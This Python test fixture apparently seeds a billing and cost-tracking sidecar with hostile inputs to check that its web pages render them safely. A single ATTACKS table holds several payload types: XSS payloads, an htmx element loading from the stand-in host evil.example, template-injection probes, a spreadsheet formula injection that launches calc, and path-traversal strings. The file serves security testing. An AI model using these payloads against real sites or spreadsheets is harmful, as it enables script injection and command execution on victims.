"""A sidecar to which everything that comes from outside is an attack on whoever looks at a page."""

from __future__ import annotations

from contextlib import suppress
from dataclasses import replace
from datetime import timedelta
from itertools import cycle
from typing import Any

from sidecar.api.serving import serving
from sidecar.api.world import Clock, World
from sidecar.web.browser.company import NOW, look, person
from tollkeeper.cli.demo.past import calls_of
from tollkeeper.client import Client, Invalid, NotFound
from tollkeeper.model import Call
from tollkeeper.simulator.history import past
from tollkeeper.storage.ledger import Started
from tollkeeper.storage.prices.pricer import Pricer

DAYS = 10
EVIL = "evil.example"
ATTACKS = {
    "image": f'<img src="//{EVIL}/x" onerror="alert(1)">',
    "script": '"><script>alert(2)</script>',
    "single": "' onmouseover='alert(3)' autofocus onfocus='alert(3)' x='",
    "double": '" autofocus onfocus="alert(4)" onmouseover="alert(4)" x="',
    "template": "{{7777*7777}}${7777*7777}#{7777*7777}",
    "link": f"javascript:alert(5)//{EVIL}",
    "turned": "\u202eevil\u202d\u2066\u200b\ufeff name",
    "control": "nul\x00bell\x07esc\x1b[31m\r\n\ttab\x7f\x85",
    "close": "</script><script>alert(6)</script><!--",
    "lines": "\u2028alert(6)\u2029]]>",
    "style": "</style></title></textarea><style>body{display:none}</style>",
    "htmx": f'"><div hx-get="//{EVIL}/" hx-trigger="load" hx-on:load="alert(7)">',
    "long": "W" * 10_000,
    "wide": "\ufdfd" * 60,
    "path": "../../?tab=x&a=b#c;%00%2e%2e%2f=+ /\\",
    "formula": "=cmd|' /C calc'!A0",
    "surrogate": "\ud800 lone",
}
POLICY: dict[str, Any] = {
    "policy": {"name": ATTACKS["image"]},
    "limit": [
        {"limit": "$1 / month per tenant", "mode": "soft"},
        {"name": "N" * 100, "limit": "$5 / day per feature", "mode": "soft"},
        {"name": "matching", "limit": "$2 / week per user", "mode": "soft", "match": {"tags": {"service": "*"}},
         "exempt": [{"model": ATTACKS["single"]}]},
    ],
    "ladder": [
        {"limit": "N" * 100, "steps": [{"at": 50, "do": "cheaper", "models": {ATTACKS["script"]: ATTACKS["htmx"]}}]}
    ],
    "emergency": {"models": {ATTACKS["double"]: ATTACKS["close"]}},
}  # fmt: skip
PRINTED = [text for name, text in ATTACKS.items() if name not in ("turned", "control", "lines", "long", "surrogate")]
"""What is taken as a reason."""
REFUSED = (Invalid, NotFound, ValueError)
"""Names that something of ours may have are narrower than those of what is called."""


def fill(world: World) -> None:
    """Everything that it takes."""
    world.clock.now = NOW
    with serving(world.app) as url, person(world, url, ATTACKS["image"][:60], "read", "write", "admin") as client:
        client.add_price(
            {"provider": "*", "model": "*", "input": "3", "output": "12", "cache_read": "1", "cache_write": "4"},
            reason=ATTACKS["script"],
            source=ATTACKS["link"],
            valid_from="2026-01-01",
        )
        _set_up(client)
        begins_at = world.clock.nanoseconds() - DAYS * 86_400 * 10**9
        calls = [attacking(call, number) for number, call in enumerate(calls_of(past(DAYS), begins_at))]
        world.record(*Pricer(world.prices).price(calls))
        world.ledger.mark_started([Started(replace(calls[0], id="019c0000-0000-7000-8000-00000000dead"))])
        look(world)
        _attend(client)


def attacking(call: Call, number: int) -> Call:
    """The same call by other names: those that calls are told apart by are as many as before."""
    attacks = list(ATTACKS.values())

    def of(prime: int) -> str:
        attack = attacks[number // prime % len(attacks)]
        return attack if number % 50 == 0 else attack[:200]

    def instead(text: str) -> str:
        return attacks[sum(text.encode()) % len(attacks)]

    user = call.tags.get("user", call.tags["service"])
    tags = {name: instead(text) for name, text in call.tags.items()}
    tags |= {"tenant": instead(user + "!"), "config": instead(user + "?"), of(11): of(13)}
    model = f"{call.request_model}{instead(user)}"
    tier = of(29) if number % 20 == 0 else None
    return replace(
        call, provider=instead(user) if tags["feature"] == ATTACKS["script"] else call.provider, request_model=model,
        response_model=model, endpoint=of(3), server_address=of(19), tags=tags, response_id=of(23), service_tier=tier,
        error_type=of(1) if call.error_type else None, finish_reasons=(of(31),), trace_id=of(37)[:32],
        span_id=of(41)[:16], parameters={of(43): of(47)},
    )  # fmt: skip


def _set_up(client: Client) -> None:
    others = cycle(PRINTED)
    client.set_policy(POLICY, reason=next(others))
    for name in ATTACKS.values():
        with suppress(*REFUSED):
            client.set_quota(name, 1000, reason=next(others))
        with suppress(*REFUSED):
            client.create_key(name, "read", reason=next(others))
        with suppress(*REFUSED):
            client.set_channel("hook", {"kind": "webhook", "url": "env:HOOK", "title": name, "only": {"tenant": name}})
        with suppress(*REFUSED):
            client.silence({"tenant": name}, comment=next(others), duration="4h")
        with suppress(*REFUSED):
            client.set_benchmark(name, "success_rate", "0.99", source=next(others), model=next(others))
        with suppress(*REFUSED):
            row = client.add_price({"provider": name, "model": next(others), "input": "1"}, reason=next(others)).row
            client.schedule_price(
                row, {"input": "2"}, valid_from=NOW + timedelta(days=2), reason=next(others), source=next(others)
            )
        with suppress(*REFUSED):
            client.add_price(
                {"provider": "*", "model": "*", "percent": "5", "tenant": name}, kind="discount", reason=name
            )


def _attend(client: Client) -> None:
    others = cycle(PRINTED)
    with suppress(*REFUSED):
        bill = "Day,Model,Cost\n" + "".join(f'2026-03-1{n},"{text.replace(chr(34), chr(34) * 2)}",1.5\n'
            for n, text in enumerate(list(ATTACKS.values())[:9]))  # fmt: skip
        client.import_invoice(
            bill,
            name=ATTACKS["image"],
            mapping={"provider": "openai", "day": "Day", "model": "Model", "amount": "Cost"},
            apply=True,
            reason=next(others),
        )
    for alert in client.alerts(firing=True).alerts[:3]:
        client.acknowledge_alert(alert.id, reason=next(others))
    for anomaly in client.anomalies().anomalies[:3]:
        client.label_anomaly(anomaly.id, "false", note=next(others))
    for advice in client.recommendations().recommendations[-2:]:
        client.dismiss_recommendation(advice.id, reason=next(others))
    client.enter_emergency(reason=ATTACKS["image"])


def opened(url: str, **options: Any) -> World:
    """Its sidecar, over a database."""
    return World(url, clock=Clock(NOW), **options)
